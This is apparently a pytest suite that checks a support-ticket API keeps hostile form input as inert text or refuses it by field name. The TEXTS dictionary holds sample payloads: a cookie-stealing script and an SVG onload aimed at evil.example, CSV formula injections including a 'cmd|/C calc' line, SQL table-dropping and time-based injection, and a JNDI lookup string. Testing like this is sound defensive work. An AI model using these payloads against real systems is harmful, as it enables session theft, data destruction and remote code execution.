"""What nobody should write into the form, through the whole mesh: kept as text or refused by name, never half done.

The rules one by one are shown beside the parts that keep them: in the tests of channels and of the gateway, IPv6
households among them.
"""

import asyncio
import json
import re
import time
import uuid
from collections.abc import Iterator, Sequence
from datetime import UTC, datetime

import httpx
import pytest
from tests.customers import ANSWERED, Customer, Json, Promise, Staff
from tests.journeys.strict import MESSAGES_PER_ADDRESS, strict_door
from tests.refusals import leaks, refusal
from tests.traces import left_by, taken_in, value_of

from local.asyncs import run_blocking
from local.mesh import Mesh

FORM = "/api/v1/support/form"
JSON = {"Content-Type": "application/json"}
WORD = "Xylographic"
"""Stands in what is refused, and must not stand in the refusal."""


@pytest.fixture
def email() -> str:
    """A sender nobody else is."""
    return f"{uuid.uuid4().hex[:16]}@customer.example"


def promise_in(answer: httpx.Response) -> Promise:
    assert answer.status_code == 200, answer.text
    body = answer.json()
    return Promise(body["reference"], body["statusToken"], body["statusUrl"])


def filed(status: Json) -> bool:
    """Whether the desk has the message, and not only the promise that was made for it."""
    return bool(status.get("messages"))


# -- kept as text ------------------------------------------------------------------------------------------------------

TEXTS = {
    "script": "<script>fetch('//evil.example/?'+document.cookie)</script>",
    "svg": '<svg onload="alert(document.cookie)"><a xlink:href="javascript:alert(1)">x</a></svg>',
    "a formula for CSV": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "another formula for CSV": "@SUM(1+1)*cmd|' /C calc'!A0",
    "SQL": "'; drop table tickets.tickets cascade; --",
    "SQL that waits": "' || (select pg_sleep(30)) || '",
    "placeholders": "$1 %s %(name)s {0} {{7*7}} ${jndi:ldap://evil.example/a}",
}


@pytest.mark.parametrize("text", TEXTS.values(), ids=TEXTS.keys())
def test_script_svg_hyperlink_and_sql_are_kept_and_shown_as_the_text_they_are(
    customer: Customer, staff: Staff, mesh: Mesh, text: str, email: str
) -> None:
    promise = customer.submit(text, email=email, name=text, subject=text)
    status = customer.status_when(promise, filed)
    assert (status["subject"], status["messages"][0]["text"]) == (text, text)
    ticket = staff.get(f"tickets/{promise.reference}")
    assert (ticket["subject"], ticket["messages"][0]["text"]) == (text, text)
    assert left_by(mesh, email) > 0, "a checker that finds nothing here proves nothing where it finds nothing"


def test_script_in_a_ticket_is_never_a_page_of_its_own(customer: Customer) -> None:
    promise = customer.submit(TEXTS["script"])
    # As a browser asks that was sent to the address itself.
    answer = customer.http.get(
        f"/api/v1/tickets/{promise.reference}", headers={**promise.headers, "Accept": "text/html,*/*"}
    )
    assert answer.headers["content-type"] == "application/json"
    assert answer.headers["x-content-type-options"] == "nosniff"
    assert answer.headers["cache-control"] == "no-store"


def test_script_cannot_run_on_the_status_page_even_if_it_got_there(customer: Customer) -> None:
    promise = customer.submit(TEXTS["script"])
    page = customer.http.get(f"/status/{promise.reference}")
    policy = page.headers["content-security-policy"]
    assert "default-src 'self'" in policy
    assert "object-src 'none'" in policy
    assert "unsafe" not in policy
    # The policy forbids scripts within the page, so there is none; and nothing of a ticket is in it either.
    assert all("src=" in tag for tag in re.findall(r"<script\b[^>]*>", page.text))
    assert promise.reference not in page.text


def test_hyperlink_is_text_because_staff_get_json_and_never_a_sheet(customer: Customer, staff: Staff) -> None:
    promise = customer.submit(TEXTS["a formula for CSV"])
    customer.status_when(promise, filed)
    answer = staff.http.get(f"/api/v1/tickets/{promise.reference}", headers={"Accept": "text/csv"})
    assert answer.headers["content-type"] == "application/json"


def test_sql_injection_finds_no_door_in_paths_filters_tokens_and_addresses(
    customer: Customer, staff: Staff, mesh: Mesh, email: str
) -> None:
    injection = "' or 1=1; drop table tickets.tickets cascade; --"
    for path in ("tickets", "customers", "articles", "runs", "deadLetters", "deliveries", "inboundMessages"):
        answer = staff.http.get(f"/api/v1/{path}", params={"pageToken": injection})
        assert refusal(answer, injection).told == (400, "INVALID_ARGUMENT")
        assert refusal(answer).fields == ("page_token",)
    filtered = staff.http.get("/api/v1/customers", params={"identifier": injection})
    assert refusal(filtered, injection).told == (400, "INVALID_IDENTIFIER")
    assert staff.get("customers", identifier="'or'1'='1@customer.example").get("customers", []) == []
    asked = customer.http.get(f"/api/v1/tickets/{injection}", headers={"X-Status-Token": injection})
    assert refusal(asked, injection).told == (400, "INVALID_ARGUMENT")
    guessed = customer.http.get("/api/v1/tickets/TKT-000000", headers={"X-Status-Token": injection})
    assert refusal(guessed, injection).told == (404, "TICKET_NOT_FOUND")
    categorised = customer.http.post(FORM, json=customer.form(ANSWERED, email=email, category=injection))
    assert set(refusal(categorised, injection).fields) == {"category"}
    assert left_by(mesh, email) == 0
    # An address may hold a quote: it is one, and leads to one customer.
    quoted = f"o'or'1'='1{email}"
    customer.status_when(customer.submit(ANSWERED, email=quoted), filed)
    (found,) = staff.get("customers", identifier=quoted)["customers"]
    assert [identifier["value"] for identifier in found["identifiers"]] == [quoted]


def test_bidi_and_zero_width_characters_are_taken_out_and_emoji_stay_whole(customer: Customer, staff: Staff) -> None:
    deceptive = "in\u202evoice\u2066 \u200bpay\ufeffment 👩\u200d👩\u200d👧"
    promise = customer.submit(deceptive, name=deceptive, subject=deceptive)
    status = customer.status_when(promise, filed)
    plain = "invoice payment 👩\u200d👩\u200d👧"
    assert (status["subject"], status["messages"][0]["text"]) == (plain, plain)
    shown = json.dumps(staff.get(f"tickets/{promise.reference}"), ensure_ascii=False)
    assert not set(shown) & set("\u202e\u2066\u200b\ufeff")


@pytest.mark.parametrize("field", ["name", "subject", "message"])
def test_zero_width_characters_alone_are_no_text(customer: Customer, mesh: Mesh, field: str, email: str) -> None:
    answer = customer.http.post(FORM, json={**customer.form(ANSWERED, email=email), field: "\u200b\u2066 \ufeff"})
    refused = refusal(answer)
    assert (refused.told, refused.fields) == ((400, "INVALID_ARGUMENT"), (field,))
    assert left_by(mesh, email) == 0


# -- refused -----------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("field", ["name", "email", "subject", "category", "message"])
def test_nul_is_refused_by_the_name_of_its_field(customer: Customer, mesh: Mesh, field: str, email: str) -> None:
    form = customer.form(ANSWERED, email=email)
    answer = customer.http.post(FORM, json={**form, field: f"{form[field]}\0{WORD}"})
    refused = refusal(answer, WORD)
    assert (refused.told, refused.fields) == ((400, "INVALID_ARGUMENT"), (field,))
    assert left_by(mesh, email) == 0


def test_nul_is_refused_by_the_name_of_its_field_when_it_is_not_even_escaped(
    customer: Customer, mesh: Mesh, email: str
) -> None:
    form = json.dumps(customer.form(f"a{WORD}", email=email, subject="s")).replace(WORD, f"\0{WORD}")
    refused = refusal(customer.http.post(FORM, content=form, headers=JSON), WORD)
    assert (refused.told, refused.fields) == ((400, "INVALID_ARGUMENT"), ("message",))
    assert left_by(mesh, email) == 0


def test_nul_is_refused_in_the_next_message_and_the_ticket_stays_as_it_was(customer: Customer) -> None:
    promise = customer.submit(ANSWERED)
    address = f"/api/v1/tickets/{promise.reference}/messages"
    refused = refusal(customer.http.post(address, json={"text": f"a\0{WORD}"}, headers=promise.headers), WORD)
    assert (refused.told, refused.fields) == ((400, "INVALID_ARGUMENT"), ("text",))
    # Taken after it, and so on the desk after it.
    customer.write_on(promise, "after")
    status = customer.status_when(promise, lambda status: "after" in json.dumps(status.get("messages", [])))
    written = [message["text"] for message in status["messages"] if message["author"] == "AUTHOR_CUSTOMER"]
    assert written == [ANSWERED, "after"]


def deep(inner: str) -> str:
    return inner * 10_000


UNREADABLE = {
    "depth 10 000 in an unknown field": deep('{"a":') + "1" + deep("}"),
    "depth 10 000 of lists": deep("[") + deep("]"),
    "depth 10 000 without an end": deep('{"message":'),
    "no JSON": f"name={WORD}",
    "unfinished": '{"name": "' + WORD,
    "not UTF-8": '{"name": "\udcff\udcfe' + WORD + '"}',
}


@pytest.mark.parametrize("body", UNREADABLE.values(), ids=UNREADABLE.keys())
def test_depth_10_000_and_what_cannot_be_read_are_refused_at_the_door(customer: Customer, body: str) -> None:
    answer = customer.http.post(FORM, content=body.encode(errors="surrogateescape"), headers=JSON)
    refused = refusal(answer, WORD)
    assert (refused.told, refused.domain) == ((400, "INVALID_REQUEST"), "gateway.fte")
    assert customer.http.get("/api/v1/health").status_code == 200


def test_10_mb_of_json_are_refused_unread(customer: Customer, mesh: Mesh, email: str) -> None:
    began = time.monotonic()
    form = customer.form("x" * 10_000_000, email=email, subject="s")
    refused = refusal(customer.http.post(FORM, json=form))
    assert (refused.told, refused.domain) == ((413, "REQUEST_TOO_LARGE"), "gateway.fte")
    assert time.monotonic() - began < 20
    assert left_by(mesh, email) == 0


def test_10_mb_of_json_that_do_not_say_how_long_they_are_are_refused_too(
    customer: Customer, mesh: Mesh, email: str
) -> None:
    body = json.dumps(customer.form("x" * 10_000_000, email=email, subject="s")).encode()

    def parts() -> Iterator[bytes]:
        for start in range(0, len(body), 65_536):
            yield body[start : start + 65_536]

    assert refusal(customer.http.post(FORM, content=parts(), headers=JSON)).told == (413, "REQUEST_TOO_LARGE")
    assert left_by(mesh, email) == 0


def test_of_duplicate_keys_the_last_counts_and_the_first_leaves_nothing(
    customer: Customer, mesh: Mesh, email: str
) -> None:
    first = f"first-{email}"
    twice = json.dumps(customer.form("The first words", email=first))[:-1]
    twice += "," + json.dumps(customer.form("The last words", email=email))[1:]
    promise = promise_in(customer.http.post(FORM, content=twice, headers=JSON))
    status = customer.status_when(promise, filed)
    assert (status["subject"], status["messages"][0]["text"]) == ("The last words", "The last words")
    assert (taken_in(mesh, email), left_by(mesh, first)) == (1, 0)


def test_honeypot_filled_in_is_answered_like_any_other_and_nothing_is_filed(
    customer: Customer, mesh: Mesh, email: str
) -> None:
    program = customer.http.post(FORM, json=customer.form(ANSWERED, email=email, website="http://spam.example"))
    person = customer.http.post(FORM, json=customer.form(ANSWERED))
    assert program.json().keys() == person.json().keys()
    assert program.headers.keys() == person.headers.keys()
    promise = promise_in(program)
    assert re.fullmatch(r"TKT-[0-9A-HJKMNP-TV-Z]{6}", promise.reference)
    assert promise.url == f"{mesh.url}/status/{promise.reference}#{promise.token}"
    # A person's form, which was sent after it, is on the desk; this one is where it was.
    customer.status_when(promise_in(person), filed)
    assert customer.status(promise) == {"reference": promise.reference, "state": "TICKET_STATE_NEW"}
    assert left_by(mesh, email) == 0


def test_honeypot_filled_in_twice_with_one_key_is_answered_the_same(customer: Customer, mesh: Mesh, email: str) -> None:
    form, key = customer.form(ANSWERED, email=email, website="x"), {"Idempotency-Key": uuid.uuid4().hex}
    first = promise_in(customer.http.post(FORM, json=form, headers=key))
    assert promise_in(customer.http.post(FORM, json=form, headers=key)) == first
    assert left_by(mesh, email) == 0


def test_the_same_idempotency_key_with_another_body_is_refused_and_the_first_stands(
    customer: Customer, mesh: Mesh, email: str
) -> None:
    key, other = uuid.uuid4().hex, f"other-{email}"
    promise = customer.submit("The first words", key=key, email=email)
    bodies = (
        customer.form(WORD, email=other),
        customer.form("The first words", email=other),
        customer.form("The first words", email=email, priority="PRIORITY_HIGH"),
    )
    for body in bodies:
        answer = customer.http.post(FORM, json=body, headers={"Idempotency-Key": key})
        assert refusal(answer, WORD, key, promise.reference, promise.token).told == (409, "IDEMPOTENCY_KEY_REUSED")
    status = customer.status_when(promise, filed)
    assert [message["text"] for message in status["messages"][:1]] == ["The first words"]
    assert (taken_in(mesh, email), left_by(mesh, other)) == (1, 0)


@pytest.mark.parametrize("key", [b"k" * 129, "kéy".encode(), b"k\ty"], ids=["too long", "not ASCII", "a tab"])
def test_an_idempotency_key_that_is_none_is_refused(customer: Customer, mesh: Mesh, key: bytes, email: str) -> None:
    answer = customer.http.post(FORM, json=customer.form(ANSWERED, email=email), headers={b"Idempotency-Key": key})
    refused = refusal(answer)
    assert (refused.told, refused.fields) == ((400, "INVALID_ARGUMENT"), ("idempotency-key",))
    assert left_by(mesh, email) == 0


async def posted(url: str, forms: Sequence[Json], addresses: Sequence[str]) -> list[httpx.Response]:
    """The answers to these forms from these addresses, as fast as twenty connections bring them."""
    async with httpx.AsyncClient(
        base_url=url, limits=httpx.Limits(max_connections=20), timeout=httpx.Timeout(30, pool=120)
    ) as http:
        return await asyncio.gather(
            *(
                http.post(FORM, json=form, headers={"X-Forwarded-For": address})
                for form, address in zip(forms, addresses, strict=True)
            )
        )


@pytest.mark.timeout(240)
@pytest.mark.parametrize(
    ("count", "address"),
    [(1000, "10.{0}.{1}.7"), (100, "2001:db8:{0}:{1}::{number:x}")],
    ids=["IPv4", "a 64 of IPv6"],
)
def test_1000_posts_from_one_address_are_cut_off_at_the_cap_with_a_time_to_come_again(
    mesh: Mesh, count: int, address: str
) -> None:
    run = uuid.uuid4().hex[:8]
    # An address that nobody wrote from within this hour.
    fresh = uuid.uuid4().bytes
    addresses = [address.format(fresh[0], fresh[1], number=number) for number in range(count)]
    emails = [f"{run}-{number}@customer.example" for number in range(count)]
    with strict_door(mesh) as url, Customer(url) as customer:
        forms = [customer.form(WORD, email=email) for email in emails]
        begun = datetime.now(UTC).hour
        answers = run_blocking(posted(url, forms, addresses))
        hours = 1 + (datetime.now(UTC).hour - begun) % 24
    taken = [email for email, answer in zip(emails, answers, strict=True) if answer.status_code == 200]
    refused = [refusal(answer, WORD, run) for answer in answers if answer.status_code != 200]
    assert MESSAGES_PER_ADDRESS <= len(taken) <= MESSAGES_PER_ADDRESS * hours
    # The cap of channels holds back whoever comes too often, and the door's own limit whoever comes too fast: how many
    # come as far as the cap depends on how busy this machine is.
    told = {each.told for each in refused}
    assert (429, "TOO_MANY_MESSAGES") in told
    assert told <= {(429, "RATE_LIMITED"), (429, "TOO_MANY_MESSAGES")}
    assert all(1 <= (each.retry_after or 0) <= 3600 for each in refused)
    kept = value_of(mesh, "select array_agg(sender) from channels.inbound where starts_with(sender, $1)", run)
    assert sorted(kept) == sorted(taken)


def test_no_word_of_a_bad_form_stands_in_a_log(customer: Customer, mesh: Mesh, email: str) -> None:
    word = f"W{uuid.uuid4().hex}"
    form = customer.form(ANSWERED, email=f"{word}@customer.example")
    answers = [
        customer.http.post(FORM, json={**form, "message": f"{word}\0"}),
        customer.http.post(FORM, json={**form, "category": word}),
        customer.http.post(FORM, json={**form, "website": word}),
        customer.http.post(FORM, json={**form, "name": word * 9}, headers={"Idempotency-Key": word}),
        customer.http.post(FORM, content=f'{{"message": "{word}', headers=JSON),
        customer.http.get("/api/v1/tickets/TKT-000000", headers={"X-Status-Token": word}),
        customer.http.get("/api/v1/tickets", headers={"Authorization": f"Bearer {word}"}),
    ]
    assert not [leak for answer in answers if answer.status_code != 200 for leak in leaks(answer.text, word)]
    logs = mesh.state / "logs"
    # The door writes its lines every second; the services' are there by then.
    ends = time.monotonic() + 30
    while answers[-1].headers["x-request-id"] not in (logs / "gateway.log").read_text():
        assert time.monotonic() < ends, "the door wrote no line of this call"
        time.sleep(0.2)  # between two looks
    for log in logs.glob("*.log"):
        assert word not in log.read_text(errors="replace"), log.name
